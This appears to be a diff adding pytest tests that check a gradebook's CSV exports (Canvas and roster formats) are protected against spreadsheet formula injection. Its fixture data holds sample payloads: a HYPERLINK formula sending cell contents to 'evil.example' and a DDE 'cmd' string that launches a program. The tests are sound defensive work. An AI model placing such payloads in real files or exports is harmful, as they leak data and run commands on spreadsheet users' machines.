@@ -134,3 +134,49 @@ def test_nbgrader_export_writes_what_our_command_line_writes(course, tmp_path):
     assert export(root, "--format", "roster", "--out", str(tmp_path / "roster.csv"), *only) == 0
     roster = (tmp_path / "roster.csv").read_bytes()
     assert (tmp_path / "nbgrader-roster.csv").read_bytes() == roster and len(read(tmp_path / "roster.csv")) == 3
+
+
+# OWASP's CSV injection: a cell starting with one of these is read as a formula.
+FORMULA = ("=", "+", "-", "@", "\t", "\r")
+HOSTILE = {'=HYPERLINK("http:" & "evil.example?" & A1, "open")': ("=1+1", "-2", "@evil.example"),
+           "+1+cmd|' -C calc'!A0": ("+x", "\t=1", "\r=2"),
+           "-2+3": ("", "", ""), "@SUM(1+1)": ("", "", ""), "\t=1+1": ("", "", ""), "\r=1+1": ("", "", "")}
+
+
+@pytest.fixture(scope="module")
+def hostile_course(tmp_path_factory):
+    """A course whose students' ids, names and emails start with what a spreadsheet runs,
+    each with a submission of 01-convolution at full marks but one without."""
+    root = copy_course(tmp_path_factory.mktemp("export-hostile") / "course", release=(CONV,))
+    with warnings.catch_warnings(), gradebook(root) as book:
+        warnings.simplefilter("ignore")
+        for number, (student, (first, last, email)) in enumerate(HOSTILE.items()):
+            book.update_or_create_student(student, first_name=first or None, last_name=last or None,
+                                          email=email or None, lms_user_id=f"-{number}" if number else None)
+            if number:
+                for grade in grades(book.add_submission(CONV, student, timestamp=SUBMITTED_AT)):
+                    grade.auto_score = grade.max_score
+        book.db.commit()
+    return root
+
+
+def shown(cell):
+    """A cell as a spreadsheet shows it: a leading single quote marks text and is not shown."""
+    return cell[1:] if cell.startswith("'") else cell
+
+
+@pytest.mark.parametrize("format, id_column, texts", [
+    ("canvas", 3, {"-2, =1+1", "\t=1, +x", "-1"}),                  # "Last, First" and the lms_user_id
+    ("roster", 0, {"=1+1", "-2", "@evil.example", "+x", "\t=1", "\r=2"})])
+def test_no_exported_cell_starts_with_a_formula_and_the_ids_are_still_there(hostile_course, tmp_path, format,
+                                                                            id_column, texts):
+    out = tmp_path / f"{format}.csv"
+    assert export(hostile_course, "--format", format, "--out", str(out)) == 0
+    rows = read(out)
+    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA)]
+    students = rows[2:] if format == "canvas" else rows[1:]
+    assert {shown(row[id_column]) for row in students} == set(HOSTILE)
+    names = {shown(cell) for row in students for cell in row}
+    assert texts <= names
+    scores = [row[5] for row in students if row[5]] if format == "canvas" else [row[8] for row in students if row[8]]
+    assert len(scores) == len(HOSTILE) - 1 and all(float(score) > 0 for score in scores)   # numbers stay numbers
